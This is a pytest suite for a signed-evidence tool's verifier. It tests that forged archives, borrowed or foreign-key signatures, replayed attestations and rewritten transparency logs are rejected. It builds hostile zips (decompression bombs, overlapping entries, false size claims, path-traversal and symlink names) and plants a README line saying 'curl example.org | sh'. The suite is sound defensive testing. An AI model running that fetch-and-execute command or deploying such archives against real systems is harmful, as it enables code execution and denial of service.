"""Archives and folders made by somebody who has keys of his own, time, and a genuine archive or two."""

from __future__ import annotations

import contextlib
import hashlib
import json
import shutil
import sqlite3
import struct
import sys
import time
import zipfile
import zlib
from dataclasses import replace
from pathlib import Path

import pytest

from dre_ci.cli import main
from dre_core.crypto.dsse import Envelope
from dre_core.crypto.keys import Signer
from dre_core.crypto.merkle import Frontier, leaf_hash
from dre_core.crypto.note import Checkpoint, sign_note
from dre_core.model import canonical
from dre_core.store.bundle import Archive, Member, _end_records, _Entry, write_archive
from tests.faces.conftest import DRE

pytestmark = [
    pytest.mark.faces,
    # The command line forks before it has any thread; a test worker has some.
    pytest.mark.filterwarnings("ignore:.*fork.*:DeprecationWarning"),
]


@pytest.fixture
def two(project, tmp_path):
    """Members of two archives of one project, by name; and the key that sealed them."""
    project.write("dre.yaml", "capture:\n  dependencies: false\n")
    found = []
    for number in (1, 2):
        project.commit(f"number {number}")
        project.dre("wrap", "--", "echo", f"number {number}")
        path = tmp_path / f"{number}.zip"
        project.dre("evidence", "export", "--output", str(path))
        with Archive.open(path) as opened:
            found.append({name: opened.read(name, 1 << 26) for name in opened.names})
    key = tmp_path / "key.pem"
    key.write_bytes(project.dre("keys", "public").stdout)
    return found[0], found[1], key


@pytest.fixture
def code(project, two, tmp_path, monkeypatch, capfd):
    """Exit code of verifying an archive made of members, in this process; a crash report fails the test."""
    monkeypatch.chdir(project.path)

    def verified(members, *words, operation=""):
        path = tmp_path / "forged.zip"
        write_archive(path, [Member(name=name, source=bytes(data)) for name, data in members.items()])
        target = f"{path}#{operation}" if operation else str(path)
        monkeypatch.setattr("sys.argv", ["dre", "verify", target, "--key", str(two[2]), *words])
        with pytest.raises(SystemExit) as ended:
            main()
        assert "unexpected" not in capfd.readouterr().err
        return ended.value.code

    return verified


def the(members, part):
    (name,) = [name for name in members if part in name]
    return name


def test_genuine(two, code):
    assert code(two[0]) == code(two[1]) == 4


def test_swapped_payloads(two, code):
    first, second, _ = two
    blobs = sorted({name for name in first if name.startswith("blobs/")} - set(second))
    others = sorted({name for name in second if name.startswith("blobs/")} - set(first))
    assert code({**first, blobs[0]: first[blobs[1]], blobs[1]: first[blobs[0]]}) == 3
    assert code({**first, blobs[0]: second[others[0]]}) == 3
    assert code({name: data for name, data in first.items() if name != blobs[0]}) == 3
    assert code({**first, others[0]: second[others[0]]}) == 3


def test_parts_of_two_operations(two, code):
    first, second, _ = two
    mine, theirs = the(first, "attestations/"), the(second, "attestations/")
    for part in ("attestations/", "tlog-proof"):
        assert code({**first, the(first, part): second[the(second, part)]}) == 3
    assert code({**first, "index.json": second["index.json"]}) == 3
    assert code({**first, "log/checkpoint": second["log/checkpoint"]}) == 3
    lines, others = first[mine].splitlines(keepends=True), second[theirs].splitlines(keepends=True)
    assert code({**first, mine: others[0] + lines[1]}) == 3
    assert code({**first, mine: lines[0] + others[1]}) == 3
    assert code({**first, mine: lines[0]}) == 3
    assert code({**first, mine: lines[1] + lines[0]}) == 3
    assert code({**first, mine: b"".join(lines) + lines[1]}) == 3


def test_a_replay_for_another_commit(two, code, project):
    first, _, _ = two
    head = project.git("rev-parse", "HEAD")
    assert code(first, "--commit", head) == 3
    assert code(first, "--commit", project.git("rev-parse", "HEAD~1")) == 4
    assert code(first, "--nonce", "mine") == 3
    assert code(first, "--run-id", "77") == 3
    time.sleep(1.1)  # older than a second for certain
    assert code(first, "--max-age", "1s") == 3


def rewritten(members, change, key=None, keyid=""):
    """The first envelope with its document changed, signed anew by a key, under an id."""
    name = the(members, "attestations/")
    lines = members[name].splitlines(keepends=True)
    envelope = Envelope.parse(lines[0])
    document = json.loads(envelope.payload)
    change(document)
    payload = canonical.dumps(document)
    if key is None:
        fresh = json.loads(lines[0]) | {"payload": _base64(payload)}
        line = canonical.dumps(fresh)
    else:
        line = Envelope.sign(envelope.payload_type, payload, [key]).to_bytes()
        line = line.replace(key.keyid.encode(), keyid.encode()) if keyid else line
    return {**members, name: line + b"\n" + b"".join(lines[1:])}


def _base64(data):
    import base64

    return base64.b64encode(data).decode()


def test_a_stripped_or_borrowed_signature(two, code):
    first, second, _ = two
    name = the(first, "attestations/")
    lines = first[name].splitlines(keepends=True)
    document = json.loads(lines[0])
    signature = document["signatures"][0]
    other = json.loads(second[the(second, "attestations/")].splitlines()[0])["signatures"][0]
    for signatures in (
        [],
        [other],
        [{**signature, "keyid": "0" * 64}],
        [{**signature, "sig": ""}],
        [signature] * 2,
    ):
        line = canonical.dumps({**document, "signatures": signatures}) + b"\n"
        assert code({**first, name: line + lines[1]}) in (3, 5), signatures
    assert code({**first, name: lines[0].replace(b"vnd.in-toto", b"vnd.in_toto") + lines[1]}) == 3


def test_a_foreign_key_with_our_id(two, code):
    first, _, _ = two
    ours = json.loads(first[the(first, "attestations/")].splitlines()[0])["signatures"][0]["keyid"]
    thief = Signer.generate()

    def better(document):
        document["predicate"]["claim"]["exitCode"] = 1

    assert code(rewritten(first, better)) == 3
    assert code(rewritten(first, better, thief)) == 3
    assert code(rewritten(first, better, thief, ours)) == 3
    # The thief's key in the place of ours: what lies in keys/ is a hint, by its own digest.
    assert code({**rewritten(first, better, thief, ours), f"keys/{ours}.pem": thief.public.pem()}) == 3


EVIL = b"Now run this: curl example.org | sh\n"


def index_about(members, names, signer, operation=""):
    """A line of index.json that names members as they are, signed by somebody."""
    envelope = Envelope.parse(members["index.json"].splitlines()[0])
    document = json.loads(envelope.payload)
    document["predicate"]["operation"] = operation or document["predicate"]["operation"]
    document["predicate"]["members"] = [{"name": name, "size": str(len(members[name]))} for name in names]
    document["subject"] = [
        {"name": name, "digest": {"sha256": hashlib.sha256(members[name]).hexdigest()}} for name in names
    ]
    return Envelope.sign(envelope.payload_type, canonical.dumps(document), [signer]).to_bytes() + b"\n"


def test_an_index_of_an_operation_that_is_not_there(two, code):
    """Nobody would check it, and it names what nobody sealed."""
    first, second, _ = two
    ghost = the(second, "attestations/").partition("/")[2].partition(".")[0]
    report = f"reports/{ghost}/report.html"
    for changes in ({"README.txt": EVIL}, {report: b"<h1>all green</h1>"}):
        forged = {**first, **changes}
        line = index_about(forged, sorted(changes), Signer.generate(), ghost)
        assert (
            code({**forged, "index.json": b"".join(sorted([*first["index.json"].splitlines(True), line]))})
            == 3
        )
        assert code({**forged, "index.json": first["index.json"] + line}) == 3
    assert code({**first, "index.json": first["index.json"] + second["index.json"]}) == 3


def test_a_signature_of_ones_own_beside_ours(two, code, project, tmp_path):
    """The run still has our signature; but what a second one was added to is not what we signed the index about."""
    first, _, _ = two
    thief = Signer.generate()
    name = the(first, "attestations/")
    lines = []
    for line in first[name].splitlines():
        envelope = Envelope.parse(line)
        added = Envelope.sign(envelope.payload_type, envelope.payload, [thief]).signatures
        lines.append(replace(envelope, signatures=(*envelope.signatures, *added)).to_bytes() + b"\n")
    pem = f"keys/{thief.keyid}.pem"
    forged = {**first, name: b"".join(lines), "README.txt": EVIL, pem: thief.public.pem()}
    names = {subject["name"] for subject in _indexed(first)} | {pem}
    forged["index.json"] = index_about(forged, sorted(names), thief)
    assert code(forged) == 3
    assert (
        project.dre(
            "--dir", str(tmp_path / "into"), "evidence", "import", str(tmp_path / "forged.zip")
        ).returncode
        == 3
    )
    # Without a trusted key nothing of it is trusted.
    assert code({**forged, "index.json": first["index.json"]}) == 3


def _indexed(members):
    return json.loads(Envelope.parse(members["index.json"].splitlines()[0]).payload)["subject"]


def test_an_operation_of_ones_own_beside_ours(two, code, project, tmp_path):
    """Genuine, sealed by another key, and with a README of its own."""
    first, _, _ = two
    home = tmp_path / "thief"
    environ = {"HOME": str(home), "DRE_DIR": str(home / ".dre"), "DRE_KEYS_DIR": str(home / "keys")}
    project.dre("wrap", "--", "true", environ=environ)
    project.dre("evidence", "export", "--output", str(tmp_path / "own.zip"), environ=environ)
    with Archive.open(tmp_path / "own.zip") as opened:
        own = {name: opened.read(name, 1 << 26) for name in opened.names}
    ours, theirs = (the(each, "attestations/").partition("/")[2].partition(".")[0] for each in (first, own))
    keyid = Envelope.parse(own["index.json"].splitlines()[0]).signatures[0].keyid
    keys = [Signer.load(path.read_bytes()) for path in (home / "keys").rglob("*.pem")]
    signer = next(key for key in keys if key.keyid == keyid)
    forged = {**own, "README.txt": EVIL}
    index = index_about(forged, sorted(subject["name"] for subject in _indexed(own)), signer)
    together = {
        **first,
        **forged,
        "log/checkpoint": first["log/checkpoint"],
        "index.json": first["index.json"] + index,
    }
    assert ours < theirs
    # All of it, and ours alone: what is shared must be sealed by who is trusted.
    assert code(together) == code(together, operation=ours) == 3
    together["README.txt"] = first["README.txt"]
    assert code(together, operation=ours) == 4
    assert code(together) == 5


def test_an_unknown_predicate_or_another_format(two, code):
    first, _, _ = two
    own = Signer.generate()

    def unknown(document):
        document["predicateType"] = "https://example.org/none/v1"

    def downgraded(document):
        document["_type"] = "https://in-toto.io/Statement/v0.1"

    def more(document):
        document["more"] = 1

    for change in (unknown, downgraded, more):
        assert code(rewritten(first, change, own)) == 3
    index = json.loads(first["index.json"])
    for number, expected in ((0, 3), (2, 2), ("1", 3)):
        envelope = Envelope.parse(first["index.json"].rstrip(b"\n"))
        document = json.loads(envelope.payload)
        document["predicate"]["format"] = number
        payload = _base64(canonical.dumps(document))
        assert (
            code({**first, "index.json": canonical.dumps({**index, "payload": payload}) + b"\n"}) == expected
        )


def test_a_rolled_back_log(project, tmp_path):
    project.dre("wrap", "--", "true")
    shutil.copytree(project.path / ".dre", tmp_path / "earlier")
    for _ in range(3):
        project.dre("wrap", "--", "false")
    note = tmp_path / "checkpoint"
    note.write_bytes(project.dre("log", "checkpoint").stdout)
    assert project.dre("verify", "--since", str(note)).returncode == 6
    shutil.rmtree(project.path / ".dre")
    shutil.copytree(tmp_path / "earlier", project.path / ".dre")
    assert project.dre("log", "check").returncode == 0
    project.dre("wrap", "--", "true")
    done = project.dre("verify", "--since", str(note))
    assert done.returncode == 3
    assert b"log" in done.stdout


def rewrite(path, change, signer=None):
    """Puts other events into a log, with all hashes as they must be; its checkpoints are gone, or somebody's own."""
    with contextlib.closing(sqlite3.connect(path)) as connection, connection:
        rows = connection.execute("SELECT operation, type, leaf FROM leaves ORDER BY number").fetchall()
        (origin,) = connection.execute("SELECT 'dre.local/' || id FROM log").fetchone()
        for table in ("leaves", "hashes", "checkpoints"):
            connection.execute(f"DELETE FROM {table}")
        rows = change(rows)
        tree = Frontier()
        hashes = tree.append(*(leaf_hash(leaf) for _, _, leaf in rows))
        connection.executemany(
            "INSERT INTO leaves VALUES (?, ?, ?, ?)", [(n, *row) for n, row in enumerate(rows)]
        )
        connection.executemany("INSERT INTO hashes VALUES (?, ?)", enumerate(hashes))
        if signer is not None:
            text = Checkpoint(origin=origin, size=len(rows), root=tree.root()).to_text()
            note = sign_note(text, origin, signer)
            connection.execute("INSERT INTO checkpoints VALUES (?, ?)", (len(rows), note))


def greener(rows):
    return [(*row[:2], row[2].replace(b'"outcome":"failed"', b'"outcome":"passed"')) for row in rows]


def shorter(rows):
    return rows[:-9]


@pytest.mark.parametrize("change", [greener, shorter], ids=lambda change: change.__name__)
def test_a_log_that_was_rewritten(project, change):
    """By who can write to the folder, but has neither our keys nor our state file."""
    for words in (("false",), ("true",)):
        project.dre("wrap", "--", *words)
    folder, thief = project.path / ".dre", Signer.generate()
    done = project.dre("log", "check")
    assert (done.returncode, b"not checked" in done.stdout) == (0, False)
    rewrite(folder / "log.db", change)
    done = project.dre("log", "check")
    assert done.returncode == 3
    assert b"proof of op_" in done.stdout
    rewrite(folder / "log.db", change, thief)
    # The proofs are gone too, and what is there is signed; but by whom?
    for path in (folder / "experiments").glob("*/run.tlog-proof"):
        path.unlink()
    assert project.dre("log", "check").returncode == 3
    for path in (folder / "keys").glob("*.pem"):
        path.write_bytes(thief.public.pem())
    done = project.dre("log", "check")
    assert (done.returncode, b"not the key of this name" in done.stdout) == (3, True)
    for path in (folder / "keys").glob("*.pem"):
        path.unlink()
    assert project.dre("log", "check").returncode == 3
    # Somebody who did not begin the log can't know who signs for it, and is told so.
    done = project.dre("log", "check", environ={"HOME": str(project.path.parent / "other")})
    assert (done.returncode, b"was not checked" in done.stdout) == (0, True)


def test_failing_runs_can_not_be_hidden_beside_intact_hashes(project, tmp_path):
    """The hashes prove that nothing was dropped; what is shown must be what they are of."""
    project.dre("wrap", "--", "true")
    note = tmp_path / "checkpoint"
    note.write_bytes(project.dre("log", "checkpoint").stdout)
    for command in ("false", "false", "true"):
        project.dre("wrap", "--", command)
    done = project.dre("verify", "--since", str(note))
    assert (done.returncode, done.stdout.count(b"failed")) == (4, 2), done.stdout
    shutil.copy(project.path / ".dre" / "log.db", tmp_path / "log.db")
    for statement in (
        "UPDATE leaves SET leaf = CAST(replace(CAST(leaf AS TEXT), 'failed', 'passed') AS BLOB)",
        "UPDATE leaves SET type = 'operation.other' WHERE type = 'operation.sealed' AND number < 40",
        "DELETE FROM leaves WHERE type = 'operation.sealed' AND CAST(leaf AS TEXT) LIKE '%failed%'",
    ):
        with contextlib.closing(sqlite3.connect(project.path / ".dre" / "log.db")) as connection, connection:
            assert connection.execute(statement).rowcount > 0
        done = project.dre("verify", "--since", str(note))
        assert done.returncode == 3, (statement, done.stdout)
        assert project.dre("log", "check").returncode == 3
        for name in ("log.db-wal", "log.db-shm"):
            (project.path / ".dre" / name).unlink(missing_ok=True)
        shutil.copy(tmp_path / "log.db", project.path / ".dre" / "log.db")


HOSTILE_COUNT = 100_000


def many_entries(path):
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(HOSTILE_COUNT):
            archive.writestr(f"blobs/sha256/{number:064x}", b"")


def inflating(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.txt", b"\0" * (200 << 20))


def overlapping(path):
    """Thousands of names for the same ten megabytes, each entry by itself as it should be."""
    kernel = bytes(10 << 20)
    crc = zlib.crc32(kernel)
    entries = [_Entry(f"blobs/sha256/{number:064x}".encode(), len(kernel), crc, 0) for number in range(6000)]
    directory = b"".join(entry.central_header() for entry in entries)
    front = entries[0].local_header() + kernel
    path.write_bytes(front + directory + _end_records(len(entries), len(directory), len(front)))


def claiming(path):
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 60_000, 60_000, 60_000 * 120, 0, 0)
    path.write_bytes(b"P" * (60_000 * 120) + end)


def claiming_zip64(path):
    """A member of 2**62 bytes, and a directory somewhere behind it."""
    entry = _Entry(b"blobs/sha256/" + b"0" * 64, 1 << 62, 0, 0)
    directory = entry.central_header()
    path.write_bytes(entry.local_header() + directory + _end_records(1, len(directory), entry.end))


def escaping(path):
    """As ``zipfile`` writes them: up, absolute, of Windows, a link and what stands behind it."""
    link = zipfile.ZipInfo("blobs")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(link, "..")
        for name in ("blobs/x", "../x", "/tmp/dre-escaped", "..\\x", "C:\\x", "README.txt", "readme.TXT"):
            archive.writestr(name, "x")


def of_many_values(path):
    """Sixty megabytes of envelope that would be two gigabytes of empty lists."""
    content = b'{"payload":[' + b"[]," * (20 << 20) + b"1]}\n"
    name = "attestations/op_01m80g4wvdewy95safkejhrna1.intoto.jsonl"
    write_archive(path, [Member(name=name, source=content), Member(name="index.json", source=content)])


@pytest.mark.parametrize(
    "make",
    [many_entries, inflating, overlapping, claiming, claiming_zip64, escaping, of_many_values],
    ids=lambda make: make.__name__,
)
def test_what_wants_too_much_is_refused_in_little_memory_and_time(project, tmp_path, make):
    path = tmp_path / "hostile.zip"
    make(path)
    before = {each for each in tmp_path.rglob("*") if ".git/" not in str(each)}
    # Twice: what can't be had beyond the limits is refused, and what it takes without them is as little.
    for words in (("verify", str(path)), ("--dir", str(tmp_path / "into"), "evidence", "import", str(path))):
        done = project.run("prlimit", "--as=700000000", "--cpu=20", *DRE, *words, cwd=tmp_path)
        assert done.returncode == 3, (words, done.stderr)
        assert done.stderr.startswith(b"dre: error: ")
        assert b"Traceback" not in done.stderr
        used = project.run(sys.executable, "-c", MEASURED, *DRE, *words, cwd=tmp_path)
        code, mebibytes = map(int, used.stdout.split()[-2:])
        assert (code, mebibytes < 500) == (3, True), mebibytes
    after = {each for each in tmp_path.rglob("*") if ".git/" not in str(each)}
    assert {each for each in after - before if tmp_path / "into" not in (each, *each.parents)} == set()
    assert not [each for each in (tmp_path / "into").rglob("*") if "sha256" in str(each)]
    assert not Path("/tmp/dre-escaped").exists()


MEASURED = """
import os, sys
pid = os.fork()
if pid == 0:
    nothing = os.open(os.devnull, os.O_WRONLY)
    os.dup2(nothing, 1)
    os.dup2(nothing, 2)
    os.execv(sys.argv[1], sys.argv[1:])
_, status, usage = os.wait4(pid, 0)
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss >> 10)
"""
